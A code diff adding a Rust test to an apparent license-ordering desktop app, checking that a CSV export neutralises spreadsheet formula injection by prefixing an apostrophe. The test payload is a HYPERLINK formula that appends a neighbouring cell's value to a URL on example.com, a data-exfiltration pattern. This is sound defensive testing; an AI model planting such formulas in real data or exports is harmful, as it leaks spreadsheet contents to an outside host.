@@ -3179,3 +3179,44 @@ fn a_batch_kept_to_send_later_survives_a_restart_and_is_sent_once() {
     });
     assert_eq!(remote_orders(&remote), 1, "sent once");
 }
+
+/// An asset number a platform accepted that a spreadsheet would run as a formula is exported
+/// from the asset grid as text: its cell starts with `'`.
+#[test]
+fn an_asset_export_writes_a_formula_as_text() {
+    let dir = tempfile::tempdir().expect("dir");
+    let mut harness = app(dir.path(), Lang::En);
+    harness.run_ok();
+    let formula = "=HYPERLINK(\"http://example.com/?\"&B2,\"8100\")";
+    let batch: license_desk::core::wire::BatchOrderRequest = serde_json::from_value(
+        serde_json::json!({"channelCode": "SHOP", "channelOrderId": "FORMULA-1",
+            "syncMode": "sync", "orderList": [{"sequence": 1, "channelCustomerId": "S-0001",
+            "licenseType": "normal_recover_usbkey", "orderType": "new_buy",
+            "assets": [{"assetNos": [formula], "products": [{"productUri": "gms:1"}]}]}]}),
+    )
+    .expect("batch");
+    harness
+        .state()
+        .core()
+        .run(
+            Command::CallOn {
+                profile: "Sandbox".into(),
+                call: Call::BatchOrder(batch),
+            },
+            Duration::from_secs(60),
+        )
+        .expect("the platform accepts it");
+    list_demo_assets(&mut harness);
+    let view = dir.path().join("formula.csv");
+    type_into(&mut harness, "Export to", &view.display().to_string());
+    click(&mut harness, "Export CSV");
+    settle(&mut harness, |_| view.exists());
+    let csv = std::fs::read_to_string(&view).expect("view");
+    assert!(
+        csv.lines().any(
+            |l| l.starts_with("\"'=HYPERLINK(\"\"http://example.com/?\"\"&B2,\"\"8100\"\")\",")
+        ),
+        "{csv}"
+    );
+    assert!(!csv.lines().any(|l| l.starts_with("\"=")), "{csv}");
+}
